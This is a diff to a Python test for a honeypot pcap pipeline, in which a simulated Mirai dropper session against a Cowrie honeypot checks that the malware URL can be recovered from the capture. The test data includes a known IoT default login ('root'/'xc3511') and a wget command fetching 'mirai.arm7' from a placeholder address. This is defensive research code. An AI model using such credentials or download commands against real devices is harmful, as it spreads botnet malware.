@@ -14,7 +14,6 @@ from repro.honeypots.pcap import (
     analyze_payloads,
     read_pcap,
 )
-from repro.internet.fabric import SimulatedInternet
 from repro.net.errors import ProtocolError
 from repro.net.ipv4 import ip_to_int
 from repro.protocols.base import ProtocolId
@@ -137,18 +136,21 @@ class TestEndToEndCapture:
     def test_honeypot_pcap_integration(self):
         """A dropper session against Cowrie ends up in its pcap with the
         malware URL recoverable — the §5.1.1 pipeline."""
-        net = SimulatedInternet()
-        deployment = build_deployment()
-        deployment.attach(net)
-        cowrie = deployment.get("Cowrie")
+        cowrie = build_deployment().get("Cowrie")
         cowrie.enable_pcap()
-        transcript = deployment.drive_session(
-            net, ATTACKER, cowrie, ProtocolId.TELNET,
-            [b"root", b"xc3511",
-             b"wget http://203.0.113.9/mirai.arm7 -O /tmp/m"],
+        port = cowrie.ports_for(ProtocolId.TELNET)[0]
+        server = cowrie.services[port]
+        session = server.open_session(peer=ATTACKER)
+        transcript = SessionTranscript(
+            protocol=ProtocolId.TELNET, port=port, source=ATTACKER,
+            banner=server.accept(session),
         )
-        cowrie.record(transcript, day=2, timestamp=2 * 86_400.0,
-                      actor="mirai")
+        for payload in (b"root", b"xc3511",
+                        b"wget http://203.0.113.9/mirai.arm7 -O /tmp/m"):
+            transcript.exchanges.append(
+                (payload, server.handle(payload, session).data)
+            )
+        cowrie.pcap.record(transcript, 2 * 86_400.0)
         findings = analyze_payloads(
             read_pcap(cowrie.pcap.pcap_bytes()), cowrie.address
         )
